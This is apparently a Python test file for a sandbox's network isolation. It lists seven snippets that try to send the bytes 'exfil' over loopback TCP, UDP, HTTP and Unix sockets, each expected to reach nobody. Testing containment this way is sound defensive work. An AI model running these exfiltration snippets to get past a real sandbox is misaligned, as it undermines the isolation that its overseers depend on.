"""Attacks that try to reach someone outside, to hand over what they know or to ask for help."""

from tests.attacks.attack import Attack, nobody_reached

ATTACKS = {
    "net-tcp-host-loopback": Attack(
        (
            "import socket\n"
            "connected = socket.create_connection(('127.0.0.1', {TCP}), 3)\n"
            "connected.send(b'exfil'); print('SENT')",
        ),
        nobody_reached,
    ),
    "net-udp-host-loopback": Attack(
        ("import socket\nsocket.socket(2, 2).sendto(b'exfil', ('127.0.0.1', {UDP}))\nprint('sent')",),
        nobody_reached,
    ),
    "net-dns-http": Attack(
        (
            "import urllib.request\n"
            "print(urllib.request.urlopen('http://127.0.0.1:{TCP}/', timeout=1).read())",
        ),
        nobody_reached,
    ),
    "net-unix-pathname": Attack(
        ("import socket\nstream = socket.socket(1)\nstream.connect('{USOCK}')\nprint('SENT')",),
        nobody_reached,
    ),
    "net-unix-dgram-pair": Attack(
        (
            "import socket\n"
            "one, other = socket.socketpair(1, 2)\n"
            "one.sendto(b'exfil', '{USOCK}.d'); print('SENT')",
        ),
        nobody_reached,
    ),
    "own-unix-abstract": Attack(
        ("import socket\nstream = socket.socket(1)\nstream.connect('\\0{ABS}')\nprint('SENT')",),
        nobody_reached,
    ),
    "own-udp-every-address": Attack(
        (
            "import socket\n"
            "for family, address in ((2, '127.0.0.1'), (2, '127.1.2.3'), (2, '0.0.0.0'), (10, '::ffff:127.0.0.1')):\n"
            "    try:\n"
            "        socket.socket(family, 2).sendto(b'exfil', (address, {UDP}))\n"
            "        print('sent to', address)\n"
            "    except OSError as error:\n"
            "        print(address, error.errno)",
        ),
        nobody_reached,
    ),
}
